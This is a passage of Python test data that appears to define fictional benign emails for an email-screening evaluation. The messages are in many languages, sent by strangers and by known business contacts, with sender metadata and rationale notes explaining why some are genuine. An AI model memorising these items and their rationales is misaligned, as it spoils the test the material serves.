    from_strangers("lt", BALDAI, "naujas klientas teiraujasi kėdžių", small_firm("Kavinė Miško takas", "miskotakas@kavine-takas.example", "LT"), to="tomas",
                   subject="Kėdės kavinei", body="Laba diena,\n\nrudenį atidarome kavinę Molėtuose, reikėtų 40 ąžuolinių kėdžių ir 10 stalų. Ar galite atsiųsti kainas ir "
                                                 "gamybos "
                   "terminą? Ar mokėti reikia iš anksto, ar pristačius?\n\nAčiū\nVaida Urbonaitė\nKavinė „Miško takas“, tel. +370 640 00144"),
    from_strangers("is", HVALIR, "ferðaskrifstofa biður um reikningsnúmer", small_firm("Ferðaskrifstofan Víkurljós", "bokhald@vikurljos.example", "IS", program="thunderbird"),
        to="helga",
                   subject="Greiðsla fyrir hóp 14. júní", body="Góðan dag.\n\nVið viljum greiða fyrir hópinn sem kemur 14. júní (22 manns). Getið þið sent okkur reikning og "
                   "reikningsnúmer? Greitt verður sama dag.\n\nKveðja\nÞórunn, bókhald Víkurljóss"),
    from_strangers("sr", DESANKA, "мајка пријављује изостанак", free("Маја Јовановић", "maja.jovanovic.brezovac@gmail.com", "iphone"), to="pedagog",
                   subject="Изостанак, Лука Јовановић IV-2", body="Поштована Ивана,\n\nЛука има температуру и неће долазити до петка. Оправдање од лекара доносим у "
                       "понедељак. Да ли му неко може послати домаћи из математике?\n\nХвала\nМаја Јовановић"),
    from_strangers("gl", ESTALEIRO, "albará dun almacén novo", small_firm("Ferraxería Soneira", "almacen@ferraxeriasoneira.example", "ES", program="ledger", spf="none"),
        to="taller",
                   subject="ALBARA 20418", body="Bo día:\n\nxunto o albará do material que recolleu o voso operario o martes: 12 caixas de parafuso inoxidable e 4 rolos de "
                                                "fibra. "
                   "A factura vai a fin de mes.\n\nFerraxería Soneira", files=(File("albara20418.pdf", "pdf", "Albara 20418\n12 caixas parafuso inox\n4 rolos fibra"),)),
    from_strangers("af", WYNE, "restaurant vra pryse", small_firm("Die Ou Skuur", "bestellings@ouskuur.example", "ZA", program="phpmailer"), to="kelder",
                   subject="Pryslys asseblief", body="Goeiemiddag\n\nOns het julle Chenin by vriende geproe en wil dit op ons wynlys sit. Stuur asseblief julle handelspryse "
                                                     "en sê of ons "
                   "'n rekening kan oopmaak, of moet die eerste bestelling vooruit betaal word?\n\nGroete\nMarlene, Die Ou Skuur, Carnarvon"),
    from_strangers("ms", HAIWAN, "pelanggan tukar temu janji", free("Farah Nadia", "farahnadia.kucing@gmail.com"), to="siti", subject="Tukar temu janji Oyen",
                   body="Assalamualaikum,\n\nMaaf, saya tak dapat datang esok pukul 3 sebab kereta rosak. Boleh tukar vaksin Oyen ke hari Sabtu pagi? Kalau deposit hangus "
                        "pun tak apa.\n\nTerima kasih,\nFarah"),
    from_strangers("sw", KAHAWA, "mnunuzi wa kahawa anaomba sampuli", free("Grace Wanjiru", "grace.wanjiru.roasters@gmail.com"), to="meneja", subject="Kuomba sampuli za kahawa",
                   body="Habari za kazi,\n\nNina duka dogo la kuchoma kahawa Nairobi. Ningependa sampuli mbili za gramu 300 za kahawa yenu ya Mbozi kabla ya kuagiza gunia. "
                        "Nitalipa gharama za usafirishaji. Bei ya kilo ni kiasi gani?\n\nAsanteni,\nGrace Wanjiru"),
    from_strangers("es", IMPRENTA, "cliente pide reimpresión", small_firm("Panadería La Espiga", "laespiga@panaderia-espiga.example", "MX", spf="none"), to="ventas",
                   subject="RE: bolsas con logo", body="Buenas tardes, las bolsas que me entregaron el sábado salieron con el rojo muy oscuro. ¿Me las pueden volver a "
                                                       "imprimir o me hacen un "
                   "descuento? Adjunto foto. También necesito la factura, mis datos son los de siempre.\n\nGracias\nDon Chucho", files=(File("foto.png", "png"),)),
    from_strangers("pt", CONDUCAO, "aluna pergunta como pagar", free("Beatriz Falcão", "bia.falcao.2007@gmail.com", "iphone"), to="secretaria", subject="Inscrição",
                   body="Olá, boa tarde. Quero inscrever-me na carta B. Posso pagar em três vezes por MB Way? E preciso de levar o atestado já na primeira aula ou só antes do "
                   "exame?\n\nObrigada, Beatriz"),
    from_strangers("nl", FIETSEN, "aanmaning van een drukker die men vergat", small_firm("Drukkerij Van Loo", "info@drukkerijvanloo.example", "BE", program="ledger"),
        to="winkel",
                   subject="Betalingsherinnering factuur 2026-0388", body="Beste klant,\n\nonze factuur 2026-0388 van 28 april (folders, 184,53 euro) staat nog open. "
                       "Wellicht is ze aan uw aandacht "
                   "ontsnapt. Mogen wij u vragen het bedrag binnen de 8 dagen over te schrijven op {account} met vermelding van het factuurnummer?\n\nIs de betaling intussen "
                   "gebeurd, dan mag u dit bericht negeren.\n\nDrukkerij Van Loo, Aalst", words={"account": iban("BE", "999714430187")},
                   files=(File("2026-0388.pdf", "pdf", "Factuur 2026-0388\nFolders A5\n184,53 EUR"),)),
    from_strangers("cs", PIVOVAR, "obec poptává pivo na slavnosti", office365("Obec Lhotka, podatelna", "podatelna@obec-lhotka.example"), to="obchod",
                   subject="Poptávka: obecní slavnosti 4. 7.", body="Dobrý den,\n\nobec Lhotka zve tři pivovary k podání nabídky na výčep při slavnostech 4. července (cca 25 "
                       "hl). Nabídky prosíme do 15. června e-mailem nebo do datové schránky. Podmínky jsou v příloze.\n\nS pozdravem\nJana Říhová, referentka",
                   files=(File("zadani_vycep.docx", "docx", "Zadání: výčep na obecních slavnostech\nTermín: 4. 7. 2026"),)),
    from_strangers("ro", PITICII, "condoleanțe de la un părinte", free("Familia Oprea", "familia.oprea.valeni@yahoo.com"), to="mirela", subject="Condoleanțe",
                   body="Stimată doamnă directoare,\n\nam aflat cu tristețe că doamna Lenuța s-a stins. A fost ca o bunică pentru Matei. Vă rugăm să ne spuneți când este "
                   "înmormântarea și dacă se strâng bani pentru o coroană.\n\nDumnezeu s-o odihnească,\nfamilia Oprea"),
    from_strangers("uk", KOLOS, "лист боржника з проханням", small_firm("ФГ «Нива»", "fgnyva@fg-nyva.example", "UA", program="roundcube"), to="ofis",
        subject="Відтермінування оплати",
                   body="Добрий день!\n\nЧерез град ми не зможемо вчасно сплатити за оренду сівалки 18 400 грн. Просимо дозволити сплатити двома частинами, у червні та серпні. "
                   "Лист за підписом голови додаємо.\n\nЗ повагою\nФГ «Нива»", files=(File("лист.pdf", "pdf", "FG Nyva"),)),
    from_strangers("de", BERGBAHN, "Inkasso im Auftrag eines Lieferanten", office("Inkassobüro Wachau", "office@inkasso-wachau.example", "AT"), to="buchhaltung",
                   subject="Forderung Blumen Huber, Akt 2026/1184", body="Sehr geehrte Damen und Herren,\n\nwir wurden von Blumen Huber e.U. mit der Einziehung der Forderung "
                       "aus Rechnung 311 vom "
                   "14.02.2026 über 212,40 € beauftragt. Zuzüglich Kosten ersuchen wir um Zahlung von 251,90 € bis 22.06.2026 auf unser Treuhandkonto {account}. Einwendungen "
                   "richten Sie bitte schriftlich mit dem Aktenzeichen an uns.\n\nMag. Ulrike Stadler\nInkassobüro Wachau, Krems · 02732 555 01", words={"account": iban("AT",
                   "9993200000447109")},
                   files=(File("Forderung_1184.pdf", "pdf", "Akt 2026/1184\nBlumen Huber e.U.\n251,90 EUR"),)),
    from_strangers("en", WIRRA, "a journalist asks for a comment", free("Jess Amaroo", "jess.amaroo.writes@gmail.com"), to="fiona", subject="Story on bush vets, comment by "
        "Friday?",
                   body="Hi Dr Maddern,\n\nI'm a freelance reporter doing a piece for the Riverine Weekly on why country clinics can't find vets. Could I ring you for ten "
                        "minutes before Friday's deadline? Happy to send questions first.\n\nCheers,\nJess Amaroo, 0491 570 156"),
    from_strangers("ja", YAMABUKI, "個人のお客様からの見積依頼", free("大西 京子", "onishi.kyoko.niwa@yahoo.co.jp"), to="jimu", subject="庭木の剪定について",
                   body="はじめまして。大西と申します。\n\n実家の松と槙の剪定をお願いしたく、ご連絡しました。お見積りは無料でしょうか。7月上旬までにお願いできれば助かります。写真を添付いたします。\n\nどうぞよろしくお願いいたします。",
                   files=(File("IMG_0388.png", "png"),)),
]

BUSINESS_KNOWN = [
    from_known("eu", SAGARDO, "upelgilearen faktura", KNOWN["upelak"], to="jon", subject="Upelak 4178", body="Kaixo Jon:\n\nhementxe maiatzeko lanaren faktura, 1.240 €. "
        "Betiko kontuan: {bank}. "
               "Bi upel geratzen zaizkit konpontzeko, datorren astean ekarriko dizkizut.\n\nIñaki", words={"bank": PAID["upelak"]}, files=(File("faktura4178.pdf", "pdf",
               "Faktura 4178"),)),
    from_known("sq", DRINI, "agjencia ndryshon datat e grupit", KNOWN["agjenci"], to="ilir", subject="Re: Grupi 317", thread=Thread(KNOWN["agjenci"], "ilir", "Grupi 317", ((6,
        "in"), (5, "out"))),
               body="Përshëndetje Ilir,\n\ngrupi nga Kosova vjen një ditë më vonë, më 19 qershor, dhe janë 31 veta në vend të 28. A ke edhe dy dhoma dyshe? Parapagimin e "
                    "bëjmë nesër.\n\nArbeni"),
    from_known("lv", KORIS, "zāles rēķins", KNOWN["zale"], to="liga", subject="Mēģinājumu zāle jūnijā", body="Labdien, Līga!\n\nPielikumā rēķins par mēģinājumu zāli jūnijā, "
        "96 €. 18. jūnijā zāle aizņemta, varu piedāvāt mazo zāli.\n\nAr cieņu\nKultūras nams „Bura”", files=(File("rekins_0626.pdf", "pdf", "Rekins 06/26\n96,00 EUR"),)),
    from_known("kk", ASTYQ, "әріптестің аты бар өтінім жүйесі", through("Айгүл Серікқызы (ІТ-қолдау)", "help@qoldau-desk.example", ""), to="daniyar",
        subject="[Өтінім 8821] Принтер: жауап",
               body="8821-өтінімге Айгүл Серікқызы жауап жазды:\n\nПринтер жөнделді, картридж ауыстырылды. Тексеріп, өтінімді жауып қойыңызшы.\n\n[Өтінімді "
                    "ашу](https://saryarqa.qoldau-desk.example/8821)",
               habits=(Habit(through("ІТ-қолдау", "help@qoldau-desk.example", ""), "daniyar", 16, 0, 5, "", "[Өтінім #]"),),
               why="The house's ticket system, which has written for months, with a colleague's name in From."),
    from_known("ca", FLECA, "la gestoria envia les nòmines", KNOWN["gestoria"], to="laia", subject="Nòmines maig", body="Hola Laia,\n\nt'adjunto les nòmines de maig en un "
        "fitxer protegit; la contrasenya "
               "és la de sempre. Cal fer les transferències abans de divendres.\n\nNúria", files=(File("nomines_maig.zip", "locked", "nomines_maig.pdf"),),
               why="The bookkeeper of years, signed, sends wages in a locked archive; the password does not stand beside it."),
    from_known("fil", DENTAL, "sagot ng HMO sa claim", KNOWN["hmo"], to="frontdesk", subject="Claim 88214 approved", body="Magandang araw,\n\nNaaprubahan na po ang claim "
        "88214 (2 pasta, 1 linis). Ang "
               "bayad na ₱3,200 ay papasok sa account ng clinic sa loob ng 5 araw.\n\n[Tingnan ang claim](https://claims.medilinga.example/88214)\n\nMediLinga HMO"),
    from_known("ta", PALLI, "பேருந்து நேர மாற்றம்", KNOWN["perundhu"], to="karthik", subject="பேருந்து 4: நேர மாற்றம்", body="வணக்கம் சார்,\n\nபாலம் வேலை நடப்பதால் பேருந்து "
        "4 நாளை முதல் 7.10க்குப் பதில் 6.55க்குக் "
               "கிளம்பும். பெற்றோருக்குத் தகவல் சொல்லிவிடுங்கள். மே மாத பில் இணைப்பில் உள்ளது.\n\nமுருகன்", files=(File("bill_may.pdf", "pdf", "Bus 4, May\nRs 38,400"),)),
    from_known("hi", SEWA, "ऑडिटर के सवाल", KNOWN["lekha"], to="rakesh", subject="Re: लेखा 2025–26", thread=Thread(KNOWN["lekha"], "rakesh", "लेखा 2025–26", ((8, "in"), (3,
        "out"))),
               body="राकेश जी,\n\nबैंक स्टेटमेंट मिल गया। मार्च की दो प्रविष्टियों के वाउचर नहीं हैं, सूची साथ में है। कृपया गुरुवार तक भेज दें, ताकि रिटर्न समय पर भर सकें।\n"
                    "\nनीलम जैन",
               files=(File("vouchers.xlsx", "xlsx", "तारीख;राशि\n12 मार्च;18,400\n27 मार्च;7,250"),)),
    from_known("cy", MENTER, "y neuadd yn cadarnhau", KNOWN["neuadd"], to="eleri", subject="Archeb neuadd 20 Mehefin", body="Bore da Eleri,\n\nMae'r neuadd i chi ar yr 20fed "
        "o 9 tan 1. £45 fel arfer, talwch ar y diwrnod neu i'r cyfrif. Mae'r allwedd gyda Mair drws nesa.\n\nHuw"),
    from_known("sv", BOLLKLUBB, "kassören påminner om avgifter", KNOWN["kassor"], to="annika", subject="Medlemsavgifter", body="Hej Annika!\n\n14 familjer har inte betalat "
        "än. Kan du skicka en påminnelse "
               "till de här på listan? Bankgirot är samma som förra året. Sen vill jag ha kvittona från cupen också.\n\nKram\nGun-Britt", files=(File("obetalda.xlsx", "xlsx",
               "Familj;Belopp\nEk;600\nBerg;600"),)),
    from_known("ko", DAON, "재료상의 휴무 안내", KNOWN["jaeryo"], to="lim", subject="6월 휴무 및 배송 안내", body="안녕하세요, 바른치재입니다.\n\n6월 3일과 6일은 휴무입니다. 5일 오전까지 주문하시면 당일 출고됩니다. 지난달 명세서를 함께 보내"
        "드리니 확인 부탁드립니다.\n\n감사합니다.",
               files=(File("명세서_5월.pdf", "pdf", "May statement"),)),
    from_known("en", PARISH, "the web site's own form brings a wedding enquiry", web_form("St Cuthbert's website", "website@stcuthberts-hollin.example",
        "hannah.and.joe2027@gmail.com", "GB"),
               to="office", subject="Website enquiry: Weddings", body="Name: Hannah Birch\nEmail: hannah.and.joe2027@gmail.com\nPhone: 07700 900412\n\nHello, we would love "
                   "to marry at St Cuthbert's in May 2027. Joe grew up in Hollin. Could you tell us which Saturdays are free and what it costs? Do we pay a deposit?",
               habits=(Habit(web_form("St Cuthbert's website", "website@stcuthberts-hollin.example", "", "GB"), "office", 9, 0, 7, "", "Website enquiry: #"),),
               why="Our own site's form, allowed by our SPF record; answers go to the couple, as such forms do."),
    from_known("fr", COQUELICOTS, "le copieur envoie un scan", Sender("Copieur bureau", "scan@coquelicots-creche.example", place("relay.fai-mosan.example", 64533, "BE"),
        "device"), to="sylvie",
               subject="Document numérisé 0388", body="Document numérisé par le copieur du bureau.\n3 pages, 300 ppp.", files=(File("scan_0388.pdf", "pdf", "3 pages"),),
               habits=(Habit(Sender("Copieur bureau", "scan@coquelicots-creche.example", place("relay.fai-mosan.example", 64533, "BE"), "device"), "sylvie", 22, 0, 3, "",
                   "Document numérisé #"),),
               why="Our own copier through our provider's relay, as every other day."),
    from_known("it", SCI, "conferma d'ordine delle divise", KNOWN["divise"], to="chiara", subject="Conferma ordine 27 giacche", body="Buongiorno Chiara,\n\nconfermo 27 "
        "giacche, consegna a fine settembre. "
               "L'acconto del 30% (2.187 €) sul solito conto {bank}. Mi servono ancora le taglie dei tre maestri nuovi.\n\nSartoria Alpina", words={"bank": PAID["divise"]}),
]

CASES = STRANGERS + FROM_KNOWN + BUSINESS_STRANGERS + BUSINESS_KNOWN
